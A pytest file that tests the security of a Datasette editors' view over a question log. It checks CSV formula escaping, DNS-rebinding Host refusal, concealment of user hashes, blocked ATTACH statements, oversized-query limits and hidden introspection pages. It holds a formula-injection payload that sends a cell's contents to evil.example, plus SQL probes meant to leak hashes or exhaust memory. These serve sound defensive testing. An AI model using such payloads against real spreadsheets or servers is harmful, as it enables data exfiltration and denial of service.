"""The editors' view under attack: formulas in CSV, foreign Host names, the askers' hashes,
introspection pages and queries that try to use unbounded memory."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import UTC, datetime, timedelta

import pytest
from datasette.app import Datasette

from bot.reports.cells import neutralise
from bot.reports.editors import make_datasette
from tests.fakes import HashEmbedder

from .conftest import QuestionLogFile, make_settings

EVIL = '=HYPERLINK("//evil.example/x?"&A1,"click")'


@pytest.fixture
async def ds(sample_log: QuestionLogFile) -> Datasette:
    sample_log.add(EVIL, datetime.now(UTC) - timedelta(hours=1), user="attacker")
    datasette = make_datasette(
        make_settings(sample_log.path, editors_allowed_hosts="ed.example"), HashEmbedder
    )
    await datasette.invoke_startup()
    return datasette


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "path",
    [
        "/questions/questions.csv?_stream=on",
        "/questions/unanswered_this_week.csv",
        "/questions.csv?sql=select+question+from+questions",
    ],
)
async def test_datasette_csv_neutralises_formulas(ds: Datasette, path: str) -> None:
    """Table, canned query and custom SQL CSV all write the formula as text."""
    response = await ds.client.get(path)
    assert response.status_code == 200, response.text
    found = cells(response.text)
    assert "'" + EVIL in found
    assert EVIL not in found


async def test_datasette_csv_keeps_numbers(ds: Datasette) -> None:
    """A vote of -1 stays a number a spreadsheet can add up."""
    response = await ds.client.get("/questions.csv?sql=select+vote+from+feedback+where+vote<0")
    assert cells(response.text)[1:] == ["-1", "-1"]


def test_one_rule_for_every_csv() -> None:
    """The shared rule: formula starts escaped, numbers and ordinary text untouched."""
    assert [neutralise(v) for v in ("=1", "＠x", "\r=1", "-0.5", 3, None, "質問")] == [
        "'=1",
        "'＠x",
        "'\r=1",
        "-0.5",
        "3",
        "",
        "質問",
    ]


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", ""])
async def test_unknown_host_is_refused(ds: Datasette, host: str) -> None:
    """DNS rebinding: a page under another name pointing at 127.0.0.1 gets 400."""
    response = await ds.client.get("/questions/questions.json", headers={"host": host})
    assert response.status_code == 400


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1:8001", "[::1]:8001", "ED.example"])
async def test_known_hosts_are_served(ds: Datasette, host: str) -> None:
    """localhost in every form and the names in EDITORS_ALLOWED_HOSTS are served."""
    response = await ds.client.get("/questions/worst_rated.json", headers={"host": host})
    assert response.status_code == 200


async def test_asker_hashes_are_never_shown(ds: Datasette) -> None:
    """Tables, streams, custom SQL and joins read user_hash and voter_hash as empty."""
    probes = [
        "/questions/questions.csv?_stream=on",
        "/questions/questions.json?_shape=array",
        "/questions/feedback.json?_shape=array",
        "/questions.json?sql=select+user_hash+from+questions",
        "/questions.json?sql=select+group_concat(user_hash)+from+main.questions",
        "/questions.json?sql=select+q.user_hash,f.voter_hash+from+questions+q+join+feedback+f",
    ]
    for path in probes:
        text = (await ds.client.get(path)).text
        for secret in ("attacker", "reader-1", "r1", '"v1"', "v2,"):
            assert secret not in text, (path, secret)


async def test_the_page_counts_askers_without_showing_them(ds: Datasette) -> None:
    """The editors' page counts distinct readers per gap; no hash appears on it."""
    text = (await ds.client.get("/")).text
    row = re.search(r'<tr class="gap" data-key="\w+">(.*?)</tr>', text, re.DOTALL)
    assert row is not None
    assert re.findall(r'<td class="num">(\d+)</td>', row.group(1)) == ["3", "3"]
    for secret in ("attacker", "reader-1", ">r1<", "v1", "v2"):
        assert secret not in text, secret


async def test_attach_and_new_views_are_refused(ds: Datasette) -> None:
    """A query cannot attach the file again or make a view that reads the hashes."""
    for sql in ("attach database 'x.db' as x", "create temp view v as select 1"):
        response = await ds.client.get("/questions.json", params={"sql": sql})
        assert response.status_code != 200 or "error" in response.json()


async def test_huge_values_fail_fast(ds: Datasette) -> None:
    """hex(zeroblob(150 MB)) is refused at once instead of running past the time limit."""
    started = time.perf_counter()
    response = await ds.client.get(
        "/questions.json", params={"sql": "select hex(zeroblob(150000000))"}
    )
    assert time.perf_counter() - started < 2.0
    assert response.status_code == 400
    assert "too big" in response.text


async def test_introspection_pages_are_hidden(ds: Datasette, sample_log: QuestionLogFile) -> None:
    """/-/databases.json and friends are 404; no page shows the file's absolute path."""
    for path in ("/-/databases.json", "/-/settings.json", "/-/versions.json", "/-/metadata"):
        assert (await ds.client.get(path)).status_code == 404, path
    assert (await ds.client.get("/-/static/app.css")).status_code == 200
    for path in ("/", "/.json", "/questions", "/questions.json", "/questions/questions.json"):
        assert str(sample_log.path.resolve()) not in (await ds.client.get(path)).text, path


async def test_datasette_csv_starts_with_a_byte_order_mark(ds: Datasette) -> None:
    """Excel showed the web view's CSV as mojibake: it needs the mark the CLI export has."""
    response = await ds.client.get("/questions/questions.csv?_stream=on")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.count(b"\xef\xbb\xbf") == 1
